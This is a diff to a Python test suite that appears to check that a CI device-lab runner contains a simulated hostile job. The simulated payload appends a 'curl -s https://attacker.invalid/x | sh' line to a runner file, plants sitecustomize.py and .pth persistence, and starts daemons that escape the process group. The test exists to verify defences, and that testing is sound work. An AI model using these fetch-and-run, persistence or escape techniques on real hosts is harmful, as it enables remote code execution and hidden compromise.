@@ -41,10 +41,13 @@ site = pathlib.Path(sysconfig.get_paths()["purelib"])
 )
 with open({runner_file!r}, "a") as handle:
     handle.write("curl -s https://attacker.invalid/x | sh\\n")
-for lock in {locks!r}:
-    subprocess.Popen({hopper!r} + [lock], stdin=subprocess.DEVNULL,
-                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-import time; time.sleep(0.5)  # the daemons are hopping, out of this process group
+subprocess.Popen({hopper!r}, stdin=subprocess.DEVNULL,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+import os, time
+for _ in range(1000):  # at most 10 s
+    if os.path.exists({started!r}):
+        break
+    time.sleep(0.01)  # the daemon is hopping by now, out of this process group
 '''
 
 
@@ -109,7 +112,10 @@ def test_what_a_hostile_job_plants_never_decides_the_next_jobs_results(
     phone_locks = [str(locks.lock_path(lab.state_dir, s)) for s in ("PHONE_A", "PHONE_B")]
     (lab.state_dir / "locks").mkdir(parents=True)
     hostile = HOSTILE_INIT.format(
-        ran=str(ran), runner_file=str(runner_file), locks=phone_locks, hopper=hopper.argv()
+        ran=str(ran),
+        runner_file=str(runner_file),
+        hopper=hopper.argv(*phone_locks),
+        started=f"{hopper.heartbeat}.started",
     )
 
     # Job 1: the hostile PR. Its own results cannot be trusted: INFRA, never PASS.
@@ -120,7 +126,8 @@ def test_what_a_hostile_job_plants_never_decides_the_next_jobs_results(
     planted = " ".join(report1["job_environment_changes"])
     assert "sitecustomize.py" in planted and "zz_persist.pth" in planted
     killed = (lab.root / "job1" / "import-check" / "stderr.txt").read_text()
-    assert "[runner: killed" in killed and hopper.alive() == [], "job 1's daemon outlived it"
+    assert hopper.started(), "the control: job 1's daemon never ran"
+    assert "[runner: killed" in killed and not hopper.alive(), "job 1's daemon outlived it"
     assert report1["adb_server"] == ["restarted before the job", "restarted after the job"]
 
     # Job 2 on the host as job 1 left it: refused, with what changed, before any test.
